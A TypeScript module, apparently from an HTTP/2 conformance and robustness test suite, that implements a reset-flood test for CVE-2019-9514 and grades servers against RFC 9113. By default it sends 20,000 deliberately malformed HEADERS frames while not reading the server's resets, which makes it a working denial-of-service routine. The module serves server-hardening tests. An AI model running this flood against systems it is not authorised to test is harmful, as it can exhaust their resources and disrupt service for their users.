/**
 * CVE-2019-9514: requests that are malformed on purpose — an upper-case field name, which §8.2.1 makes a
 * stream error — so that each one draws an RST_STREAM the attacker never reads.
 */
import { Engagement } from '../engagement.ts';
import { headersFrame, requestBlock } from '../frames.ts';
import { answer, answeredStreams, floodRefusal, goaway, notDelivered, rst, status } from './answers.ts';
import { definePattern } from './types.ts';

export default definePattern({
  id: 'reset-flood',
  title: 'Reset flood',
  cve: 'CVE-2019-9514',
  year: 2019,
  summary: 'requests with an upper-case field name, each of which the target must reset, the RST_STREAMs never read',
  expected: 'RST_STREAM PROTOCOL_ERROR for each malformed request (§8.1.1, §8.2.1) with the queue bounded, or GOAWAY ENHANCE_YOUR_CALM (§10.5)',
  rfc: 'RFC 9113 §8.1.1, §8.2.1, §10.5',
  defaults: { streams: 20_000 },
  scaled: ['streams'],
  async run(ctx, p) {
    const e = new Engagement(ctx, 'malformed requests', p.streams);
    const peer = await e.open({ handshake: true });
    if (peer !== null) {
      const block = requestBlock({ method: 'GET', authority: ctx.target.authority, path: ctx.paths.small, fields: [['X-Upper-Case', '1']] });
      peer.pauseReading();
      const sent = await peer.writeUnits(p.streams, (i) => headersFrame(2 * i + 1, block, { endStream: true, endHeaders: true }), ctx.budget);
      e.sent(sent);
      return e.finish(() => answeredStreams(peer) >= sent.units);
    }
    return e.finish();
  },
  judge(o) {
    const none = notDelivered(o);
    if (none !== null) return none;
    if (status(o, (s) => s < 400))
      return answer('unexpected', o, 'answered requests with an upper-case field name: §8.2.1 makes them malformed, to be refused');
    if (rst(o, ['PROTOCOL_ERROR']) || goaway(o, ['PROTOCOL_ERROR']))
      return answer('expected', o, 'refused the malformed requests with PROTOCOL_ERROR (§8.1.1)');
    const refused = floodRefusal(o);
    if (refused !== null) return refused;
    if (rst(o) || status(o, (s) => s >= 400)) return answer('tolerated', o, 'refused the malformed requests, but not with PROTOCOL_ERROR as §8.1.1 names');
    return answer('unexpected', o, 'no answer to malformed requests: each owes a stream error (§8.1.1)');
  },
});
